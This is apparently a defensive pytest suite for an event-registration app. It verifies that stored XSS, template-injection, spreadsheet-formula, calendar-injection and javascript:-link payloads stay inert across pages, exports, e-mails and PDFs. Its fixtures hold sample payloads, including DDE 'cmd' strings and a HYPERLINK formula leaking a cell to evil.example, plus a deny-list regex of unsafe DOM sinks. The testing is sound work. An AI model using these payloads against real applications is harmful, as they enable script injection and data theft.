"""Stored XSS and template injection: an attacker's strings, written through the real forms into
every text field a participant or an organiser can fill (names, organisation, job title, event
titles, descriptions, venue, address, city, mailing subject and body, import file cells), come
back escaped in every page that shows them, as data (never markup) in the desk's JSON, as plain
text in e-mails' text parts, escaped in their HTML parts, literal in calendar files, and never
break a ticket or badge PDF. Spreadsheet formulas in those fields are neutralised in exports.

Each field gets its own tag before the attack string, so a test can say which field a page must
show (a page that silently dropped the value would otherwise pass).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from icalendar import Calendar
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select

from eventapp.models import Event, Mailing, OutboxMessage, Registration, utcnow

ATTACK = '<script>alert(1)</script>"><img src=x onerror=alert(1)>{{7*191}}'
DESK = 'desk"><img src=x onerror=alert(1)>'  # desk names are 40 characters at most
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def attack(tag: str) -> str:
    return f"{tag}{ATTACK}"


def escaped(tag: str) -> str:
    """The attack string as Jinja's autoescaping writes it (markupsafe, like Jinja)."""
    return str(escape(attack(tag)))


def assert_inert(body: str, where: str) -> None:
    """No attacker markup survives and no template expression was evaluated."""
    assert "<script>alert" not in body, where
    assert "<img src=x" not in body, where
    assert "onerror=alert(1)>" not in body, where
    # {{7*191}} never evaluated (1337 alone: a timestamp's digits may hold it)
    assert not re.search(r"(?<!\d)1337(?!\d)", body), where


def assert_shows(body: str, where: str, *tags: str) -> None:
    assert_inert(body, where)
    for tag in tags:
        # Last names are shown in capitals (« Prénom NOM »): escaped all the same.
        shown = escaped(tag) in body or str(escape(attack(tag).upper())) in body
        assert shown, (where, tag)


def _form_event(workspace, **overrides) -> dict:
    start = utcnow() + timedelta(days=40)
    data = {
        "kind": "congress",
        "title_fr": attack("titlefr"),
        "title_en": attack("titleen"),
        "description_fr": attack("descfr") + "\n\nSecond paragraph " + attack("descfr2"),
        "description_en": attack("descen"),
        "starts_at": start.strftime("%Y-%m-%dT09:00"),
        "ends_at": start.strftime("%Y-%m-%dT18:00"),
        "venue": attack("venue"),
        "address": attack("address"),
        "city": attack("city"),
        "region": "idf",
        "capacity": "50",
        "lead_id": str(workspace["org"].id),
    }
    data.update(overrides)
    return data


PERSON = {
    "first_name": attack("first"),
    "last_name": attack("last"),
    "organisation_name": attack("org"),
    "job_title": attack("job"),
    "category": "biotech",
    "region": "idf",
    "consent": "y",
}
# Spreadsheet formulas in every text field (the public form allows them; tab and carriage
# return prefixes come from the organiser's form, which has no single-line rule).
FORMULA_PERSON = {
    **PERSON,
    "first_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "last_name": "+33 6 12 34 56 78",
    "organisation_name": "-2+3+cmd|' /C calc'!A0",
    "job_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "email": "formula@example.org",
}


@pytest.fixture
def attacked(app, client, db, factory, login, mail_outbox):
    """Everything written through the real forms: an organiser's event, tour and stage, a
    participant's registration, a formula-writing participant, an organiser-added attendee, an
    import, a mailing, a check-in."""
    org = factory.organisation(name="Medicen Paris Region", short_name="Medicen")
    manager = factory.user(org, "manager")
    workspace = {"org": org}
    login(manager)

    assert client.post("/organiser/events/new", data=_form_event(workspace)).status_code == 302
    event = db.session.scalar(select(Event).where(Event.kind == "congress"))
    assert event.title_fr == attack("titlefr")  # stored literally
    assert client.post(f"/organiser/events/{event.id}/publish").status_code == 302

    tour_form = _form_event(workspace, kind="tour", title_fr=attack("tour"), capacity="")
    assert client.post("/organiser/events/new", data=tour_form).status_code == 302
    tour = db.session.scalar(select(Event).where(Event.kind == "tour"))
    stage_form = _form_event(workspace, title_fr=attack("stage"), capacity="20")
    stage_form.pop("kind")
    assert client.post(f"/organiser/events/{tour.id}/stages/new", data=stage_form).status_code == (
        302
    )
    stage = db.session.scalar(select(Event).where(Event.parent_id == tour.id))
    for target in (tour, stage):
        assert client.post(f"/organiser/events/{target.id}/publish").status_code == 302

    # A participant, through the public form (their own browser session).
    visitor = app.test_client()
    url = f"/events/{event.slug}/register"
    response = visitor.post(url, data={**PERSON, "email": "attacker@example.org"})
    assert response.status_code == 302
    confirmation = visitor.get(response.headers["Location"]).get_data(as_text=True)
    assert app.test_client().post(url, data=FORMULA_PERSON).status_code == 302
    tour_url = f"/events/{tour.slug}/register"
    tour_data = {**PERSON, "email": "attacker@example.org", "stages": str(stage.id)}
    assert app.test_client().post(tour_url, data=tour_data).status_code == 302
    person = db.session.scalar(
        select(Registration).where(
            Registration.event_id == event.id, Registration.email == "attacker@example.org"
        )
    )
    assert person.first_name == attack("first")  # stored literally

    # An organiser adds someone with tab / carriage-return formula prefixes.
    added = {
        "first_name": "\t=1+2",
        "last_name": "\r=3+4",
        "organisation_name": attack("added"),
        "job_title": "@cmd",
        "email": "added@example.org",
        "category": "academic",
        "region": "",
        "language": "fr",
        "consent": "y",
    }
    response = client.post(f"/organiser/events/{event.id}/attendees/new", data=added)
    assert response.status_code == 302, response.get_data(as_text=True)[:300]

    # An import with attack strings and formulas in its cells, one bad row among them.
    rows = [
        ["Nom", "Prénom", "E-mail", "Organisation", "Fonction"],
        [attack("implast"), attack("impfirst"), "imported@example.org", attack("imporg"), "=1"],
        ["=cmd|' /C calc'!A0", "+1", "imported2@example.org", "-1", "@A1"],
        ["Bad", "Row", attack("bademail"), "", ""],
    ]
    content = "\r\n".join(";".join(row) for row in rows).encode("utf-8")
    response = client.post(
        f"/organiser/events/{event.id}/import",
        data={"file": (io.BytesIO(content), "people.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    preview_url = response.headers["Location"]
    preview = client.get(preview_url).get_data(as_text=True)
    assert client.post(preview_url, data={"consent": "y"}).status_code == 302

    # A mailing to everyone, with attack strings in its subject and body.
    mailing = {"subject": attack("subject"), "body": attack("body") + "\n{first_name}"}
    mailing_url = f"/organiser/events/{event.id}/mailings/new"
    mailing_preview = client.post(mailing_url, data={**mailing, "step": "preview"})
    assert mailing_preview.status_code == 200
    assert client.post(mailing_url, data={**mailing, "step": "send"}).status_code == 302

    # A check-in at the desk (no JavaScript: the result is shown on the desk page).
    client.post(f"/organiser/events/{event.id}/checkin/desk", data={"desk": DESK})
    client.post(f"/organiser/events/{event.id}/checkin/scan", data={"code": person.ticket_code})

    db.session.expire_all()
    return {
        "event": event,
        "tour": tour,
        "stage": stage,
        "person": person,
        "manager": manager,
        "confirmation": confirmation,
        "import_preview": preview,
        "mailing_preview": mailing_preview.get_data(as_text=True),
        "mailing": db.session.scalar(select(Mailing)),
        "visitor": visitor,
    }


def test_values_are_stored_literally(attacked, db):
    event, person = attacked["event"], attacked["person"]
    assert (event.venue, event.city, event.address) == (
        attack("venue"),
        attack("city"),
        attack("address"),
    )
    assert (person.last_name, person.organisation_name, person.job_title) == (
        attack("last"),
        attack("org"),
        attack("job"),
    )
    imported = db.session.scalar(
        select(Registration).where(Registration.email == "imported@example.org")
    )
    assert (imported.first_name, imported.organisation_name) == (
        attack("impfirst"),
        attack("imporg"),
    )
    assert attacked["mailing"].subject == attack("subject")


def test_public_and_participant_pages_escape_everything(attacked, app, client):
    event, tour, person = attacked["event"], attacked["tour"], attacked["person"]
    token = person.manage_token
    visitor = app.test_client()
    pages = {
        "/": ("titlefr", "tour"),
        "/events": ("titlefr",),
        f"/events/{event.slug}": ("titlefr", "descfr", "descfr2", "venue", "city"),
        f"/events/{tour.slug}": ("tour",),  # stages are listed by region
        f"/events/{attacked['stage'].slug}": ("stage",),
        f"/events/{event.slug}/register": ("titlefr",),
        f"/events/{tour.slug}/register": ("tour", "city"),  # stages: region and city
        f"/events/{event.slug}/resend-link": ("titlefr",),
        f"/events/{event.slug}/privacy": ("titlefr",),
        f"/privacy?event={event.slug}": ("titlefr",),
        "/privacy": (),
        f"/r/{token}": ("titlefr", "first", "last", "org", "job"),
        f"/r/{token}/cancel": ("titlefr",),
        f"/r/{token}/erase": ("titlefr",),
    }
    for url, tags in pages.items():
        response = visitor.get(url)
        assert response.status_code == 200, url
        assert_shows(response.get_data(as_text=True), url, *tags)
    english = app.test_client()
    english.get("/language/en")
    assert_shows(english.get(f"/events/{event.slug}").get_data(as_text=True), "en", "titleen")
    assert_shows(attacked["confirmation"], "confirmation", "titlefr")
    # The manage link's data download is JSON (never sniffed as HTML) with the literal values.
    download = visitor.get(f"/r/{token}/data.json")
    assert download.mimetype == "application/json"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert attack("first") in download.get_data(as_text=True).replace("\\", "")
    # The catalogue search box shows the search back escaped.
    search = visitor.get("/", query_string={"q": attack("search")})
    assert_shows(search.get_data(as_text=True), "search", "search")


def test_organiser_pages_escape_everything(attacked, client):
    event, person = attacked["event"], attacked["person"]
    base = f"/organiser/events/{event.id}"
    mailing_id = attacked["mailing"].id
    pages = {
        "/organiser/": ("titlefr", "tour"),
        base: ("titlefr", "venue", "city"),
        f"{base}/edit": ("titlefr", "titleen", "descfr", "descen", "venue", "address", "city"),
        f"{base}/attendees?status=all": ("first", "last", "org", "impfirst", "added"),
        f"{base}/attendees?q=script": ("first", "org"),
        f"{base}/attendees/{person.id}": ("first", "last", "org", "job", "titlefr"),
        f"{base}/attendees/{person.id}/edit": ("first", "last", "org", "job"),
        f"{base}/history": ("titlefr", "first"),
        f"{base}/statistics": ("titlefr",),
        f"{base}/mailings": ("subject",),
        f"{base}/mailings/{mailing_id}": ("subject", "body"),
        f"{base}/checkin": ("titlefr", "first"),
        f"{base}/checkin?q=first": ("first", "org"),
        f"{base}/badges": ("titlefr",),
        f"{base}/cancel": ("titlefr",),
        f"/organiser/events/{attacked['tour'].id}": ("tour", "stage"),
        f"/organiser/events/{attacked['tour'].id}/attendees": ("stage", "first"),
    }
    for url, tags in pages.items():
        response = client.get(url)
        assert response.status_code == 200, url
        assert_shows(response.get_data(as_text=True), url, *tags)
        if url.endswith("/checkin"):  # the desk's name, and the result of the last check-in
            assert str(escape(DESK)) in response.get_data(as_text=True)
    assert_shows(attacked["import_preview"], "import preview", "implast", "bademail")
    assert_shows(attacked["mailing_preview"], "mailing preview", "subject", "body")


def test_the_desk_json_carries_data_never_markup(attacked, client):
    event, person = attacked["event"], attacked["person"]
    answer = client.get(
        f"/organiser/events/{event.id}/checkin/search",
        query_string={"q": "first"},
        headers={"Accept": "application/json"},
    )
    assert answer.mimetype == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    [item] = [i for i in answer.json["results"] if i["id"] == person.id]
    # Literal values: the desk's script puts them in the page as text (see below).
    assert item["name"] == f"{attack('first')} {attack('last').upper()}"
    assert item["organisation"] == attack("org")
    scan = client.post(
        f"/organiser/events/{event.id}/checkin/scan",
        data={"code": person.ticket_code},
        headers={"Accept": "application/json"},
    )
    # Already checked in by the fixture: by which desk (its name), and who.
    assert DESK in scan.json["title"] and attack("first") in scan.json["details"]


def test_page_scripts_never_insert_markup():
    """The desk, availability and organiser scripts build the page with textContent and
    createElement only: no HTML parsing of data, so the JSON above can never become markup."""
    from pathlib import Path

    scripts = list((Path(__file__).resolve().parents[2] / "static" / "js").glob("*.js"))
    assert len(scripts) >= 3
    forbidden = re.compile(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|"
        r"setAttribute\(\s*[\"']on|\.srcdoc"
    )
    for script in scripts:
        assert not forbidden.search(script.read_text()), script.name


def _csv_rows(client, url) -> list[list[str]]:
    response = client.get(url, buffered=True)
    assert response.status_code == 200
    text = response.get_data().decode("utf-8-sig")
    delimiter = ";" if "sep=semicolon" in url else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_csv_exports_neutralise_formulas(attacked, client, factory):
    event, tour = attacked["event"], attacked["tour"]
    # Tab and carriage-return prefixes: the forms make names one line, but rows written before
    # (or by another tool) may hold them.
    factory.registration(event, first_name="\t=1+2", last_name="\r=3+4", job_title="\t@x")
    for url in (
        f"/organiser/events/{event.id}/attendees/export.csv?status=all",
        f"/organiser/events/{event.id}/attendees/export.csv?status=all&sep=semicolon",
        f"/organiser/events/{tour.id}/attendees/export.csv?status=all",  # with the stage title
    ):
        rows = _csv_rows(client, url)
        cells = [cell for row in rows[1:] for cell in row]
        assert len(rows) >= 2, url
        for cell in cells:
            assert not cell.startswith(FORMULAS), (url, cell)
        if "tour" not in url and str(tour.id) not in url.split("/")[3]:
            # The values are all there, as text.
            assert "'" + FORMULA_PERSON["first_name"] in cells
            assert "'+33 6 12 34 56 78" in cells and "'@cmd" in cells
            assert "'=1+2" in cells  # typed with a tab in the organiser's form: one line
            assert "'\t=1+2" in cells and "'\r=3+4" in cells and "'\t@x" in cells
            assert "'=cmd|' /C calc'!A0" in cells and "'-1" in cells  # from the import
            assert attack("first") in cells  # markup is data in a CSV, kept as typed


def test_xlsx_exports_hold_text_never_formulas(attacked, client):
    event = attacked["event"]
    response = client.get(
        f"/organiser/events/{event.id}/attendees/export.xlsx?status=all", buffered=True
    )
    assert response.status_code == 200
    content = response.get_data()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        for name in sheets:
            assert "<f>" not in archive.read(name).decode("utf-8"), name  # no formula at all
    book = load_workbook(io.BytesIO(content))
    values = []
    for row in book.active.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.lstrip("'").startswith(FORMULAS):
                assert cell.data_type == "s", (cell.coordinate, cell.value)  # text
            values.append(cell.value)
    assert FORMULA_PERSON["first_name"] in values or "'" + FORMULA_PERSON["first_name"] in values
    assert attack("first") in values


def _messages_to(db, address: str) -> list[OutboxMessage]:
    return list(
        db.session.scalars(
            select(OutboxMessage)
            .where(OutboxMessage.recipient == address)
            .order_by(OutboxMessage.id)
        )
    )


def test_emails_escape_html_and_keep_text_plain(attacked, db, mail_outbox):
    confirmation, *_others, mailing = _messages_to(db, "attacker@example.org")[:1] + [
        m for m in _messages_to(db, "attacker@example.org") if m.kind == "mailing"
    ]
    assert confirmation.kind == "booking.created"  # one e-mail per booking
    # HTML part: escaped; text part: the literal characters, no HTML entities.
    assert_shows(confirmation.body_html, "confirmation html", "first", "titlefr", "venue")
    assert attack("first") in confirmation.body_text
    assert attack("titlefr") in confirmation.body_text
    assert "&lt;" not in confirmation.body_text and "&#34;" not in confirmation.body_text
    assert attack("titlefr") in confirmation.subject
    assert_shows(mailing.body_html, "mailing html", "body", "first")
    assert attack("body") in mailing.body_text and attack("first") in mailing.body_text
    assert "&lt;" not in mailing.body_text
    assert mailing.subject == attack("subject")
    # What the mail server received (locmem backend) is the same.
    sent = [m for m in mail_outbox if m.to == ["attacker@example.org"]]
    assert sent and all("<script>alert" not in m.alternatives[0][0] for m in sent)


def _vevents(body: bytes) -> list:
    calendar = Calendar.from_ical(body)
    return [c for c in calendar.walk() if c.name == "VEVENT"]


def test_calendar_files_keep_titles_literal(attacked, app, client, db, factory):
    event, person = attacked["event"], attacked["person"]
    visitor = app.test_client()
    for url in (
        f"/events/{event.slug}/calendar.ics",
        f"/r/{person.manage_token}/calendar.ics",
    ):
        response = visitor.get(url)
        assert response.status_code == 200, url
        [vevent] = _vevents(response.get_data())
        assert str(vevent["summary"]) == attack("titlefr"), url
        assert attack("descfr") in str(vevent["description"])
        assert attack("venue") in str(vevent["location"])
    feed = _vevents(visitor.get("/events.ics").get_data())
    assert attack("titlefr") in {str(v["summary"]) for v in feed}
    # A title trying to inject calendar lines stays one line of one event (a row written
    # before the forms made titles one line, or by another tool; the calendar's name used to
    # crash the file with a 500).
    injection = "Congrès\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Piège"
    injected = factory.event(title_fr=injection)
    response = visitor.get(f"/events/{injected.slug}/calendar.ics")
    assert response.status_code == 200
    [vevent] = _vevents(response.get_data())
    # Escaped by the calendar format (line breaks read back as \n), all there.
    assert str(vevent["summary"]) == injection.replace("\r\n", "\n")
    # Through the organiser's form a title is one line.
    data = _form_event({"org": attacked["manager"].memberships[0].organisation})
    data["title_fr"] = injection
    response = client.post(f"/organiser/events/{event.id}/edit", data=data)
    assert response.status_code == 302
    db.session.expire_all()
    assert event.title_fr == "Congrès END:VEVENT BEGIN:VEVENT SUMMARY:Piège"


def test_tickets_and_badges_build_with_attack_strings(attacked, app, client):
    import pypdfium2

    person = attacked["person"]
    visitor = app.test_client()
    png = visitor.get(f"/r/{person.manage_token}/ticket.png")
    assert png.status_code == 200 and png.get_data()[:8] == b"\x89PNG\r\n\x1a\n"
    pdfs = [visitor.get(f"/r/{person.manage_token}/ticket.pdf")]
    base = f"/organiser/events/{attacked['event'].id}/badges.pdf"
    pdfs += [client.get(base, query_string={"layout": layout}) for layout in ("a4", "a6")]
    for response in pdfs:
        assert response.status_code == 200, response.request.url
        document = pypdfium2.PdfDocument(response.get_data())
        text = "".join(page.get_textpage().get_text_range() for page in document)
        document.close()
        assert "alert(1)" in text.replace("\r", "").replace("\n", "")  # drawn as plain text


def test_only_web_links_are_accepted_as_online_links(client, db, factory, login):
    """javascript:, data: and other schemes are refused for the connection link participants
    click on their manage page and in their e-mails."""
    org = factory.organisation()
    login(factory.user(org, "manager"))
    workspace = {"org": org}
    for link in (
        "javascript:alert(1)",
        "javascript://example.org/%0Aalert(1)",
        "JaVaScRiPt://example.org/%0Aalert(1)",
        "data://example.org/text/html,<script>alert(1)</script>",
        "vbscript://example.org/msgbox",
        "//evil.example/visio",
    ):
        data = _form_event(workspace, title_fr="Webinaire", online_url=link)
        response = client.post("/organiser/events/new", data=data)
        assert response.status_code == 400, link
    assert db.session.scalar(select(Event)) is None
    good = _form_event(workspace, title_fr="Webinaire", online_url="https://visio.example.org/a")
    assert client.post("/organiser/events/new", data=good).status_code == 302


@pytest.mark.browser
def test_the_desk_in_chromium_shows_attack_strings_as_text(browser, live_server, factory):
    """The desk's script renders search results and check-in results from JSON: in a real
    browser the attacker's strings are text on the screen, never elements (checked in the DOM
    itself, so the CSP, which would also block them, is not what makes this pass)."""
    from playwright.sync_api import expect

    from tests.browser.test_checkin import open_desk

    org = factory.organisation()
    event = factory.event(organisers=[org], title_fr=attack("titlefr"))
    factory.registration(
        event, first_name=attack("first"), last_name="Zed", organisation_name=attack("org")
    )
    staff = factory.user(org, "checkin")
    context = browser.new_context(base_url=live_server, locale="fr-FR")
    dialogs = []
    try:
        desk = open_desk(context, staff, event, DESK)
        desk.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        desk.get_by_role("searchbox", name="Nom ou organisation").fill("zed")
        name = desk.locator("#search-results .person-name")
        expect(name).to_have_text([f"{attack('first')} ZED"])
        desk.locator("#search-results button").first.click()
        expect(desk.locator("#checkin-result")).to_contain_text(attack("first"))
        for page_url in (None, f"/organiser/events/{event.id}/checkin?q=zed"):
            if page_url:
                desk.goto(page_url)
            assert desk.locator('img[src="x"]').count() == 0
            assert desk.locator("script:not([src])").count() == 0
            assert "alert(1)" in desk.locator("main").inner_text()
        assert dialogs == []
    finally:
        context.close()
